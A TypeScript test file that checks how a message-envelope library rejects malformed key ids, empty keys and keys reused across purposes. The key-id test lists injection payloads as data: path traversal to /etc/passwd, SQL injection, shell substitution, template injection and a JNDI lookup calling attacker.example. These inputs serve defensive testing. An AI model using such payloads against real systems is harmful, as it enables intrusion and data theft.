import { createPublicKey, type JsonWebKey } from 'node:crypto';
import {
  digestOf,
  encodeBase64url,
  generateKeyPair,
  importEncryptionKey,
  importSigningKey,
  importVerificationKey,
  type Jwk,
} from '../../libs/envelope';
import { craft, withHeader, type Craft } from '../fakes/craft';
import { endOf } from '../fakes/end-of';
import { signaturePair, type Parties } from '../fakes/parties';
import { admissionOf } from './admitted';
import { signers, type Edit } from './directories';
import { bothSuites, verdicts, verdictsOn, type BothSuites } from './verdicts';

/** Key ids, key material, and what a key may be used for. */
let suites: BothSuites;
beforeAll(async () => {
  suites = await bothSuites();
});

const filled = (length: number, byte: number) => encodeBase64url(Buffer.alloc(length, byte));

/** The first unit of a node whose keys TLS could have too. */
const gb = (nodes: Parameters<Edit>[1]) => nodes.find(({ id }) => id === 'gb')!.units[0]!;
const spkiOf = (jwk: object) =>
  digestOf(createPublicKey({ key: jwk as JsonWebKey, format: 'jwk' }).export({ type: 'spki', format: 'der' }));

describe('B-08 a key id that is more than a name', () => {
  const NO_NAMES = [
    '../enc1',
    '..\\enc1',
    'keys/enc1',
    '/etc/passwd',
    'file:///etc/passwd',
    "enc1' OR '1'='1",
    "enc1'; DROP TABLE inbox; --",
    '$(id)',
    '`id`',
    '{{7*7}}',
    '${jndi:ldap://attacker.example/a}',
    'enc1\0',
    'enc1\u202e',
    'enc1\r\nX: y',
    ' enc1',
    '*',
    '',
    'a'.repeat(129),
    'a'.repeat(1_000_000),
    ['enc1'],
    { $ne: null },
    null,
    1,
    true,
  ];
  /** Names by their form, which are nobody's key here. */
  const NOBODY = ['.', '..', '...', '__proto__', 'constructor', 'toString', 'hasOwnProperty', 'enc2', 'ENC1', 'sig1'];

  it('B-08 is refused as a header: a path, a query, a template, NUL, a megabyte', async () => {
    expect(
      await verdicts(
        suites,
        NO_NAMES.map((kid): Craft => ({ inner: { kid } })),
      ),
    ).toEqual(['bad_header']);
    expect(await verdictsOn(suites, (token) => NO_NAMES.map((kid) => withHeader(token, { kid })))).toEqual([
      'bad_header',
    ]);
  });

  it('B-08 finds nothing: names of prototypes, of folders, of other keys', async () => {
    expect(
      await verdicts(
        suites,
        NOBODY.map((kid): Craft => ({ outer: { kid } })),
      ),
    ).toEqual(['undecryptable']);
    const others = NOBODY.filter((kid) => kid !== 'sig1');
    expect(
      await verdicts(
        suites,
        others.map((kid): Craft => ({ inner: { kid } })),
      ),
    ).toEqual(['unknown_sender']);
  });

  it('B-08 with the id of another partner’s key is judged by that partner’s key', async () => {
    const [, parties] = suites;
    const { senderUnit } = parties.message.header;
    const other = await signaturePair('sig2');
    // Both units have a key of that id: only the one of the unit that is named counts.
    const verificationKey: Parties['context']['verificationKey'] = (unit) =>
      unit === senderUnit ? Promise.resolve(other.public) : parties.context.verificationKey(unit, 'sig1', new Date());
    const token = await craft(parties, { inner: { kid: 'sig2' } });
    expect(await endOf(token, { ...parties.context, verificationKey })).toBe('bad_signature');
  });
});

it('B-12 an empty key, or none', async () => {
  const empty: Jwk[] = [
    { kty: 'oct', k: '' },
    { kty: 'oct', k: filled(32, 1) },
    { kty: '' },
    {} as Jwk,
    { kty: 'EC', crv: 'P-256', x: '', y: '' },
    { kty: 'OKP', crv: 'Ed25519', x: '' },
    { kty: 'OKP', crv: 'X25519', x: '' },
    { kty: 'AKP', alg: 'HPKE-10', pub: '' },
  ];
  const emptyRsa = { kty: 'RSA', n: '', e: '' };
  for (const jwk of [...empty, emptyRsa]) expect(admissionOf(jwk)).toEqual(['bad_key']);
  for (const jwk of empty) {
    for (const load of [importSigningKey, importVerificationKey, importEncryptionKey]) {
      await expect(load('kid1', jwk)).rejects.toMatchObject({ code: 'bad_key' });
    }
  }
  // OpenSSL has an RSA key of no bits, which has signed nothing.
  const nothing = await importVerificationKey('sig1', emptyRsa);
  const blank = ['AA', filled(384, 0)].map((signature): Craft => ({
    inner: { alg: 'PS256' },
    original: (jws) => jws.replace(/[^.]*$/, signature),
  }));
  expect(await verdicts(suites, blank, { verificationKey: () => Promise.resolve(nothing) })).toEqual(['bad_signature']);
  const noKey = { verificationKey: () => Promise.resolve(undefined) };
  expect(await verdicts(suites, [{}, { original: (jws) => jws.replace(/[^.]*$/, 'AA') }], noKey)).toEqual([
    'unknown_sender',
  ]);
  const noDecryption = { decryptionKey: () => Promise.resolve(undefined) };
  expect(await verdicts(suites, [{}], noDecryption)).toEqual(['undecryptable']);
  const { edited, signAny, adopt } = await signers();
  for (const jwk of [...empty, emptyRsa]) {
    const directory = edited((_, __, [unit]) => Object.assign(unit!.signingKeys[0]!, { jwk }));
    expect(await adopt(await signAny(directory))).toBe('directory_malformed');
  }
});

describe('B-18 a key in another use than its own', () => {
  it('B-18 as its members `use`, `key_ops`, `alg` say', async () => {
    const { publicJwk: signing } = await generateKeyPair('ES256');
    const { publicJwk: hybrid } = await generateKeyPair('hybrid');
    for (const says of [
      { use: 'enc' },
      { alg: 'ES384' },
      { alg: 'ECDH-ES' },
      { key_ops: ['verify'] },
      { key_ops: ['encrypt'] },
    ]) {
      expect(admissionOf({ ...signing, ...says }, ['governance', 'receipt', 'signing'])).toEqual(['bad_key']);
    }
    for (const says of [{ use: 'sig' }, { alg: 'HPKE-8' }, { key_ops: ['deriveBits'] }]) {
      expect(admissionOf({ ...hybrid, ...says }, ['encryption'])).toEqual(['bad_key']);
    }
    expect(admissionOf(hybrid, ['governance', 'receipt', 'signing'])).toEqual(['bad_key']);
  });

  it.each<[string, Edit]>([
    ['signing and receipts', (_, [vn], [unit]) => (unit!.signingKeys[0]!.jwk = vn!.receiptKeys[0]!.jwk)],
    ['signing and encryption', (_, nodes) => (gb(nodes).encryptionKeys[0]!.jwk = gb(nodes).signingKeys[0]!.jwk)],
    ['governance and signing', ({ governance }, _, [unit]) => (unit!.signingKeys[0]!.jwk = governance.keys[0]!.jwk)],
    ['two partners', (_, [vn, other]) => (other!.receiptKeys[0]!.jwk = vn!.receiptKeys[0]!.jwk)],
    ['TLS of two partners', (_, [vn, other]) => (other!.tls.spki = vn!.tls.spki)],
    ['TLS and signing', (_, [vn], [unit]) => (vn!.tls.spki = [...vn!.tls.spki, spkiOf(unit!.signingKeys[0]!.jwk)])],
    ['TLS and receipts', (_, [vn]) => (vn!.tls.spki = [...vn!.tls.spki, spkiOf(vn!.receiptKeys[0]!.jwk)])],
    ['TLS and encryption', (_, nodes) => nodes[0]!.tls.spki.push(spkiOf(gb(nodes).encryptionKeys[0]!.jwk))],
  ])('B-18 one public key for %s', async (_, edit) => {
    const { edited, signAny, adopt } = await signers();
    expect(await adopt(await signAny(edited(edit)))).toBe('directory_key_reused');
  });
});
